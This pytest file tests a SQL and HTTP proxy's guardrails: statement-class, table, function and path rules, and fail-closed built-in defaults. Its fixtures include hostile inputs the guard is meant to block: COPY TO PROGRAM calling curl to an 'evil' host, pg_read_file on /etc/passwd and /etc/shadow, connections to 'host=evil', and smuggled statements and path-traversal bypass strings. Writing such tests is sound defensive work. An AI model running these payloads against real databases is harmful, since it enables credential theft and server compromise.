"""Guardrail evaluation: Connection rules in order, built-in defaults after, fail closed."""

from __future__ import annotations

from typing import Any

import pytest

from sidegate_proxy.config import API_VERSION, ConfigError, parse_connection
from sidegate_proxy.guardrails import BUILTIN_GUARDRAILS, Guard, normalize_path, path_readings
from sidegate_proxy.policy import Caller

BOT = Caller(subject="system:serviceaccount:payments:reporter", issuer="https://k8s", groups=frozenset())
DBA = Caller(subject="alice", issuer="https://idp", groups=frozenset({"dba"}))


def guard(*rules: dict[str, Any], kind: str = "postgres") -> Guard:
    target = {"host": "db", "port": 5432, "database": "app"} if kind == "postgres" else {"url": "http://x"}
    obj = {
        "apiVersion": API_VERSION,
        "kind": "Connection",
        "metadata": {"name": "db", "namespace": "payments"},
        "spec": {
            "type": kind,
            "target": target,
            "credentials": {"secretRef": {"name": "creds"}},
            "guardrails": list(rules),
        },
    }
    return Guard(parse_connection(obj))


Who = dict[str, Any] | None


def sql_rule(name: str, action: str = "block", who: Who = None, **sql: Any) -> dict[str, Any]:
    return {"name": name, "action": action, "sql": sql, **(who or {})}


def http_rule(name: str, action: str = "block", who: Who = None, **http: Any) -> dict[str, Any]:
    return {"name": name, "action": action, "http": http, **(who or {})}


def action(g: Guard, sql: str, caller: Caller = BOT) -> str:
    return g.check_sql(caller, sql).decision.action


# --------------------------------------------------------------------------- SQL rules


@pytest.mark.parametrize(
    ("statements", "sql"),
    [
        (["drop"], "DROP TABLE t"),
        (["truncate"], "TRUNCATE t"),
        (["delete"], "DELETE FROM t WHERE id = 1"),
        (["update"], "UPDATE t SET a = 1 WHERE id = 1"),
        (["insert"], "INSERT INTO t VALUES (1)"),
        (["merge"], "MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN DELETE"),
        (["copy"], "COPY t TO STDOUT"),
        (["create"], "CREATE TABLE t (a int)"),
        (["alter"], "ALTER TABLE t ADD b int"),
        (["grant"], "GRANT SELECT ON t TO bob"),
        (["revoke"], "REVOKE SELECT ON t FROM bob"),
        (["call"], "CALL p()"),
        (["do"], "DO $$ BEGIN PERFORM 1; END $$"),
        (["select"], "SELECT 1"),
        (["read"], "SELECT 1"),
        (["write"], "DELETE FROM t WHERE a = 1"),
        (["ddl"], "CREATE INDEX ON t (a)"),
        (["dcl"], "GRANT ALL ON t TO x"),
        (["admin"], "VACUUM t"),
        (["transaction"], "BEGIN"),
        (["session"], "SET work_mem = '1MB'"),
        (["explain"], "EXPLAIN SELECT 1"),
        (["lock"], "LOCK TABLE t"),
    ],
)
def test_each_statement_class_blocks(statements: list[str], sql: str) -> None:
    g = guard(sql_rule("r", statements=statements))
    verdict = g.check_sql(BOT, sql)
    assert verdict.decision.action == "block", verdict
    assert verdict.decision.rule == "r"
    assert verdict.decision.reason.startswith('blocked by guardrail "r": ')


def test_rule_does_not_match_other_classes() -> None:
    g = guard(sql_rule("no-drop", statements=["drop", "truncate"]))
    assert action(g, "SELECT * FROM t") == "allow"
    assert action(g, "DELETE FROM t") == "allow"
    assert g.check_sql(BOT, "SELECT 1").decision.rule is None


def test_reason_names_rule_and_command() -> None:
    verdict = guard(sql_rule("no-drop", statements=["drop"])).check_sql(BOT, "DROP TABLE public.orders")
    assert verdict.decision.reason == 'blocked by guardrail "no-drop": DROP'
    assert verdict.commands == {"drop"}
    assert verdict.tables == {"public.orders"}


@pytest.mark.parametrize(
    "sql",
    [
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        "EXPLAIN ANALYZE DELETE FROM t",
        "PREPARE p AS DELETE FROM t",
        "CREATE RULE r AS ON INSERT TO u DO INSTEAD DELETE FROM t",
        "SELECT 1; DELETE FROM t",
        "SELECT 1 /* harmless */ ; -- still harmless\n DeLeTe FROM t",
        'DELETE FROM "t"',
        "DO $$ BEGIN DELETE FROM t; END $$",
    ],
)
def test_nested_and_smuggled_deletes_are_blocked(sql: str) -> None:
    g = guard(sql_rule("no-delete", statements=["delete"]))
    verdict = g.check_sql(BOT, sql)
    assert verdict.decision.action == "block", verdict
    assert verdict.decision.rule == "no-delete"


def test_literals_mentioning_drop_are_not_drops() -> None:
    g = guard(sql_rule("no-drop", statements=["drop"]))
    assert action(g, "SELECT 'DROP TABLE x', $$DROP TABLE y$$, $t$; DROP TABLE z$t$") == "allow"
    assert action(g, 'SELECT * FROM "DROP"') == "allow"
    assert action(g, "SELECT 1 -- DROP TABLE x") == "allow"
    assert action(g, "SELECT 1 /* ; DROP TABLE x */") == "allow"


def test_explain_without_analyze_is_a_read() -> None:
    g = guard(sql_rule("no-delete", statements=["delete"]))
    assert action(g, "EXPLAIN DELETE FROM t") == "allow"
    assert action(g, "EXPLAIN (ANALYZE) DELETE FROM t") == "block"


def test_execute_is_unknown_unless_the_session_prepared_it() -> None:
    g = guard(sql_rule("no-delete", statements=["delete"]))
    verdict = g.check_sql(BOT, "EXECUTE p")
    assert verdict.decision.rule == "builtin-unknown"
    prepared = {"p": "PREPARE p AS DELETE FROM t", "q": "PREPARE q AS SELECT 1"}
    assert g.check_sql(BOT, "EXECUTE p", prepared).decision.rule == "no-delete"
    assert g.check_sql(BOT, "EXECUTE q", prepared).decision.action == "allow"
    assert g.check_sql(BOT, "EXECUTE nope", prepared).decision.rule == "builtin-unknown"


def test_first_match_wins() -> None:
    g = guard(
        sql_rule("dba-may-drop", action="allow", who={"groups": ["dba"]}, statements=["drop"]),
        sql_rule("no-drop", statements=["drop"]),
    )
    assert g.check_sql(DBA, "DROP TABLE t").decision.rule == "dba-may-drop"
    assert g.check_sql(DBA, "DROP TABLE t").decision.action == "allow"
    assert g.check_sql(BOT, "DROP TABLE t").decision.rule == "no-drop"


def test_who_scoping() -> None:
    g = guard(sql_rule("bots-read-only", who={"subjects": ["system:serviceaccount:*"]}, statements=["write"]))
    assert action(g, "INSERT INTO t VALUES (1)", BOT) == "block"
    assert action(g, "INSERT INTO t VALUES (1)", DBA) == "allow"
    g = guard(sql_rule("dba-only", who={"groups": ["nobody"]}, statements=["read"]))
    assert action(g, "SELECT 1", DBA) == "allow"


def test_strictest_decision_over_statements_wins() -> None:
    g = guard(
        sql_rule("approve-deletes", action="requireApproval", statements=["delete"]),
        sql_rule("no-drop", statements=["drop"]),
    )
    verdict = g.check_sql(BOT, "DELETE FROM t WHERE a = 1; DROP TABLE t; SELECT 1")
    assert verdict.decision.action == "block"
    assert verdict.decision.rule == "no-drop"
    assert verdict.statement is not None and verdict.statement.text == "DROP TABLE t"
    verdict = g.check_sql(BOT, "SELECT 1; DELETE FROM t WHERE a = 1")
    assert verdict.decision.action == "requireApproval"
    assert verdict.decision.reason == 'approval required by guardrail "approve-deletes": DELETE'


def test_without_where() -> None:
    g = guard(sql_rule("bulk-writes", action="requireApproval", statements=["delete", "update"],
                       withoutWhere=True))
    assert action(g, "DELETE FROM t") == "requireApproval"
    assert action(g, "UPDATE t SET a = 1") == "requireApproval"
    assert action(g, "DELETE FROM t WHERE id = 1") == "allow"
    assert action(g, "UPDATE t SET a = 1 WHERE id = 1") == "allow"
    assert action(g, "WITH x AS (DELETE FROM t RETURNING 1) SELECT * FROM x") == "requireApproval"
    # the matched command must be the one without WHERE
    sql = "WITH x AS (DELETE FROM t WHERE a = 1 RETURNING 1) INSERT INTO u SELECT * FROM x"
    assert action(g, sql) == "allow"
    assert guard(sql_rule("bulk", withoutWhere=True)).check_sql(BOT, "TRUNCATE t").decision.action == "block"
    reason = g.check_sql(BOT, "DELETE FROM t").decision.reason
    assert reason == 'approval required by guardrail "bulk-writes": DELETE without WHERE'


def test_table_globs() -> None:
    g = guard(sql_rule("pii", tables=["customers", "billing.*", "Audit_*"]))
    assert action(g, "SELECT * FROM customers") == "block"
    assert action(g, "SELECT * FROM public.customers") == "block"
    assert action(g, 'SELECT * FROM "CUSTOMERS"') == "block"
    assert action(g, "SELECT * FROM billing.invoices") == "block"
    assert action(g, "SELECT * FROM audit_log") == "block"
    assert action(g, "SELECT * FROM orders") == "allow"
    assert action(g, "SELECT * FROM invoices") == "allow"
    assert action(g, "SELECT * FROM orders WHERE cid IN (SELECT id FROM customers)") == "block"
    g = guard(sql_rule("public-only", tables=["public.secrets"]))
    assert action(g, "SELECT * FROM secrets") == "block"  # unqualified counts as public
    assert action(g, "SELECT * FROM other.secrets") == "allow"
    assert action(g, "SELECT * FROM mydb.public.secrets") == "block"


def test_tables_and_statements_must_both_match() -> None:
    g = guard(sql_rule("no-customer-writes", statements=["write"], tables=["customers"]))
    assert action(g, "SELECT * FROM customers") == "allow"
    assert action(g, "DELETE FROM orders WHERE a = 1") == "allow"
    assert action(g, "UPDATE customers SET a = 1 WHERE id = 2") == "block"


def test_function_globs() -> None:
    g = guard(sql_rule("no-kill", functions=["pg_cancel_*", "set_config"]))
    assert action(g, "SELECT pg_cancel_backend(42)") == "block"
    assert action(g, "SELECT PG_CATALOG.SET_CONFIG('role', 'admin', false)") == "block"
    assert action(g, "SELECT lower('x')") == "allow"
    g = guard(sql_rule("qualified", functions=["pg_catalog.set_config"]))
    assert action(g, "SELECT set_config('a', 'b', false)") == "block"  # unqualified resolves to pg_catalog


# --------------------------------------------------------------------------- built-in defaults


@pytest.mark.parametrize(
    ("sql", "rule"),
    [
        ("DROP DATABASE prod", "builtin-drop-database"),
        ("ALTER SYSTEM SET ssl = off", "builtin-alter-system"),
        ("COPY t TO PROGRAM 'curl https://evil'", "builtin-server-programs"),
        ("COPY (SELECT 1) TO PROGRAM 'sh'", "builtin-server-programs"),
        ("COPY t FROM '/etc/passwd'", "builtin-server-files"),
        ("SELECT pg_read_file('/etc/passwd')", "builtin-server-functions"),
        ("SELECT pg_catalog.pg_read_binary_file('/etc/shadow')", "builtin-server-functions"),
        ("SELECT * FROM pg_ls_dir('/')", "builtin-server-functions"),
        ("SELECT lo_import('/etc/passwd')", "builtin-server-functions"),
        ("SELECT lo_export(1, '/tmp/x')", "builtin-server-functions"),
        ("SELECT dblink_exec('host=evil', 'DROP TABLE t')", "builtin-server-functions"),
        ("SELECT pg_terminate_backend(1)", "builtin-server-functions"),
        ("WITH x AS (SELECT pg_read_file('/etc/passwd') AS f) SELECT * FROM x", "builtin-server-functions"),
        ("CREATE FUNCTION f() RETURNS text LANGUAGE sql RETURN pg_read_file('/x')",
         "builtin-server-functions"),
        ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN COPY t TO PROGRAM 'sh'; END $$",
         "builtin-server-programs"),
        ("CREATE PROCEDURE p() LANGUAGE sql AS $$ COPY t FROM '/etc/passwd' $$", "builtin-server-files"),
        ("DO $$ BEGIN COPY t TO PROGRAM 'sh'; END $$", "builtin-server-programs"),
        ("LOAD 'evil.so'", "builtin-load"),
        ("CREATE EXTENSION file_fdw", "builtin-extensions"),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ return 1 $$", "builtin-extensions"),
        ("CREATE TABLESPACE t LOCATION '/tmp'", "builtin-server-files"),
        ("CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p", "builtin-remote-connections"),
        ("SELEKT 1", "builtin-unknown"),
        ("DO $$ BEGIN PERFORM 1; END $$", "builtin-unknown"),
        ("SELECT query_to_xml('DELETE FROM t', true, true, '')", "builtin-unknown"),
        ("SELECT 1\x00; DROP TABLE t", "builtin-unknown"),
    ],
)
def test_builtin_defaults_block(sql: str, rule: str) -> None:
    verdict = guard().check_sql(BOT, sql)
    assert verdict.decision.action == "block"
    assert verdict.decision.rule == rule


def test_builtins_are_marked() -> None:
    assert all(g.builtin for g in BUILTIN_GUARDRAILS)
    assert len({g.name for g in BUILTIN_GUARDRAILS}) == len(BUILTIN_GUARDRAILS)


def test_unparseable_reason_carries_the_parser_error() -> None:
    reason = guard().check_sql(BOT, "SELEKT 1").decision.reason
    assert "could not be classified" in reason and "syntax error" in reason


def test_ordinary_statements_pass_with_no_rules() -> None:
    g = guard()
    for sql in ["SELECT 1", "INSERT INTO t VALUES (1)", "BEGIN", "DROP TABLE t", "COPY t FROM STDIN", ""]:
        assert action(g, sql) == "allow", sql


def test_broad_allow_does_not_unlock_builtins() -> None:
    g = guard(sql_rule("reads-ok", action="allow", statements=["read"]))
    assert g.check_sql(BOT, "SELECT pg_read_file('/etc/passwd')").decision.rule == "builtin-server-functions"
    assert g.check_sql(BOT, "SELECT query_to_xml('x', true, true, '')").decision.rule == "builtin-unknown"
    assert g.check_sql(BOT, "SELECT 1").decision.rule == "reads-ok"
    g = guard(sql_rule("anything", action="allow"))
    assert g.check_sql(BOT, "DROP DATABASE prod").decision.rule == "builtin-drop-database"


def test_explicit_allow_overrides_builtins() -> None:
    g = guard(
        sql_rule("dba-unknown", action="allow", who={"groups": ["dba"]}, statements=["unknown"]),
        sql_rule("dba-do", action="allow", who={"subjects": ["carol"]}, statements=["do"]),
        sql_rule("migrations", action="allow", statements=["create_extension"]),
        sql_rule("files", action="allow", who={"groups": ["dba"]}, functions=["pg_read_file"]),
        sql_rule("admin", action="allow", who={"subjects": ["root"]}, statements=["admin"]),
    )
    assert g.check_sql(DBA, "SELEKT 1").decision.rule == "dba-unknown"
    assert g.check_sql(DBA, "SELEKT 1").decision.action == "allow"
    assert g.check_sql(BOT, "SELEKT 1").decision.rule == "builtin-unknown"
    carol = Caller(subject="carol", issuer="x")
    assert g.check_sql(carol, "DO $$ BEGIN PERFORM 1; END $$").decision.action == "allow"
    assert g.check_sql(BOT, "CREATE EXTENSION pgcrypto").decision.rule == "migrations"
    assert g.check_sql(BOT, "CREATE EXTENSION pgcrypto").decision.action == "allow"
    dba_files = Caller(subject="dave", issuer="x", groups=frozenset({"dba"}))
    assert g.check_sql(dba_files, "SELECT pg_read_file('/x')").decision.rule == "files"
    root = Caller(subject="root", issuer="x")
    assert g.check_sql(root, "COPY t TO PROGRAM 'gzip > /backup'").decision.action == "allow"
    assert g.check_sql(root, "SELECT pg_read_file('/x')").decision.rule == "builtin-server-functions"


def test_user_block_beats_builtins_and_names_itself() -> None:
    g = guard(sql_rule("no-ddl", statements=["ddl"]))
    assert g.check_sql(BOT, "DROP DATABASE prod").decision.rule == "no-ddl"


def test_unknown_statement_class_fails_loudly() -> None:
    with pytest.raises(ConfigError, match=r"spec.guardrails\[0\].sql.statements\[0\].*delte"):
        guard(sql_rule("typo", statements=["delte"]))


# --------------------------------------------------------------------------- HTTP


def test_http_methods_and_paths() -> None:
    rule = http_rule("read-only-api", methods=["POST", "PUT", "patch", "DELETE"], paths=["/v1/*"])
    g = guard(rule, kind="http")
    assert g.check_http(BOT, "POST", "/v1/payments", None).action == "block"
    assert g.check_http(BOT, "delete", "/v1/a/b/c", None).action == "block"  # * crosses /
    assert g.check_http(BOT, "PATCH", "/v1/x", None).action == "block"
    assert g.check_http(BOT, "GET", "/v1/payments", None).action == "allow"
    assert g.check_http(BOT, "POST", "/v2/payments", None).action == "allow"
    decision = g.check_http(BOT, "POST", "/v1/payments", None)
    assert decision.rule == "read-only-api"
    assert decision.reason == 'blocked by guardrail "read-only-api": POST /v1/payments'


@pytest.mark.parametrize(
    "path",
    [
        "/v1/admin",
        "/v1//admin",
        "//v1/admin",
        "/v1/./admin",
        "/v2/../v1/admin",
        "/x/../../v1/admin",
        "/v1/%61dmin",
        "/v1%2Fadmin",
        "/v1%2fadmin",
        "/%76%31/admin",
        "/v1/admin/",
        "/v1/admin?x=1",
        "/v1/%2e%2e/v1/admin",
        "/v2/%2e%2e%2fv1/admin",
        "/v2/%252e%252e%252fv1/admin",
        "/v2/..%5Cv1/admin",
        "/v1/admin;jsessionid=1",
        "v1/admin",
    ],
)
def test_http_path_normalisation_cannot_bypass(path: str) -> None:
    g = guard(http_rule("no-admin", paths=["/v1/admin"]), kind="http")
    assert g.check_http(BOT, "GET", path, None).action == "block", path_readings(path)


def test_http_paths_are_case_sensitive() -> None:
    g = guard(http_rule("no-admin", paths=["/v1/admin"]), kind="http")
    assert g.check_http(BOT, "GET", "/V1/admin", None).action == "allow"


def test_http_allow_needs_every_reading_to_match() -> None:
    g = guard(
        http_rule("public", action="allow", paths=["/public/*"]),
        http_rule("rest", paths=["*"]),
        kind="http",
    )
    assert g.check_http(BOT, "GET", "/public/x", None).rule == "public"
    # decoded once this is under /public; decoded twice it escapes to /admin
    assert g.check_http(BOT, "GET", "/public/%252e%252e/admin", None).rule == "rest"


def test_normalize_path() -> None:
    assert normalize_path("/a//b/./c/../d") == "/a/b/d"
    assert normalize_path("/a/%2e%2e/b") == "/b"
    assert normalize_path("/../../etc") == "/etc"
    assert normalize_path("/a/b/") == "/a/b/"
    assert normalize_path("") == "/"


def test_http_nul_in_path_is_blocked() -> None:
    assert guard(kind="http").check_http(BOT, "GET", "/a%00b", None).action == "block"


def test_http_builtin_trace_connect() -> None:
    g = guard(kind="http")
    assert g.check_http(BOT, "TRACE", "/", None).rule == "builtin-http-trace-connect"
    assert g.check_http(BOT, "CONNECT", "/", None).action == "block"
    assert g.check_http(BOT, "GET", "/", None).action == "allow"
    assert guard(http_rule("all", action="allow", paths=["*"]), kind="http").check_http(
        BOT, "TRACE", "/", None
    ).action == "block"
    assert guard(http_rule("trace", action="allow", methods=["TRACE"]), kind="http").check_http(
        BOT, "TRACE", "/", None
    ).action == "allow"


def test_http_body_matchers() -> None:
    g = guard(
        http_rule("big-transfers", action="requireApproval", methods=["POST"], paths=["/v1/transfers"],
                  body=[{"path": "$.amount", "values": [1000000]}]),
        http_rule("no-root", methods=["POST"], body=[{"path": "user.role", "values": ["root", "admin"]}]),
        http_rule("no-force", body=[{"path": "$.options.force"}]),
        http_rule("no-admin-items", body=[{"path": "$.items[*].kind", "values": ["admin"]}]),
        http_rule("deep-secret", body=[{"path": "$..password"}]),
        kind="http",
    )
    check = g.check_http
    assert check(BOT, "POST", "/v1/transfers", {"amount": 1000000}).action == "requireApproval"
    assert check(BOT, "POST", "/v1/transfers", {"amount": 1000000.0}).action == "requireApproval"
    assert check(BOT, "POST", "/v1/transfers", {"amount": "1000000"}).action == "requireApproval"
    assert check(BOT, "POST", "/v1/transfers", {"amount": 5}).action == "allow"
    assert check(BOT, "POST", "/v1/transfers", None).action == "allow"
    assert check(BOT, "POST", "/v1/users", {"user": {"role": "admin"}}).rule == "no-root"
    assert check(BOT, "POST", "/v1/users", {"user": {"role": "viewer"}}).action == "allow"
    assert check(BOT, "POST", "/v1/users", {"user": "admin"}).action == "allow"
    assert check(BOT, "PUT", "/x", {"options": {"force": False}}).rule == "no-force"  # exists
    assert check(BOT, "PUT", "/x", {"options": {}}).action == "allow"
    assert check(BOT, "PUT", "/x", {"items": [{"kind": "a"}, {"kind": "admin"}]}).rule == "no-admin-items"
    assert check(BOT, "PUT", "/x", {"items": [{"kind": "a"}]}).action == "allow"
    assert check(BOT, "PUT", "/x", {"a": [{"b": {"password": "x"}}]}).rule == "deep-secret"
    assert check(BOT, "PUT", "/x", [1, 2, 3]).action == "allow"


def test_http_body_value_types_are_not_confused() -> None:
    g = guard(http_rule("flag", body=[{"path": "enabled", "values": [True]}]), kind="http")
    assert g.check_http(BOT, "POST", "/", {"enabled": True}).action == "block"
    assert g.check_http(BOT, "POST", "/", {"enabled": 1}).action == "allow"


def test_needs_http_body() -> None:
    g = guard(
        http_rule("big", methods=["POST"], paths=["/v1/transfers"], body=[{"path": "amount"}]),
        http_rule("no-delete", methods=["DELETE"]),
        kind="http",
    )
    assert g.needs_http_body("POST", "/v1/transfers")
    assert g.needs_http_body("post", "/v1//transfers")
    assert not g.needs_http_body("GET", "/v1/transfers")
    assert not g.needs_http_body("DELETE", "/v1/transfers")


def test_http_who_scoping() -> None:
    g = guard(http_rule("bots-read-only", who={"subjects": ["system:serviceaccount:*"]}, methods=["POST"]),
              kind="http")
    assert g.check_http(BOT, "POST", "/x", None).action == "block"
    assert g.check_http(DBA, "POST", "/x", None).action == "allow"


def test_sql_rules_do_not_apply_to_http_and_back() -> None:
    g = guard(sql_rule("no-drop", statements=["drop"]), http_rule("no-post", methods=["POST"]))
    assert g.check_http(BOT, "GET", "/", None).action == "allow"
    assert action(g, "SELECT 1") == "allow"


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ([{"path": "a..."}], "cannot parse JSON path"),
        ([{"path": "$"}], "empty JSON path"),
    ],
)
def test_bad_body_path_fails_loudly(body: list[dict[str, Any]], message: str) -> None:
    with pytest.raises(ConfigError, match=message):
        guard(http_rule("bad", body=body), kind="http")


def test_bad_path_glob_fails_loudly() -> None:
    with pytest.raises(ConfigError, match=r"paths\[0\]"):
        guard(http_rule("bad", paths=["v1/*"]), kind="http")
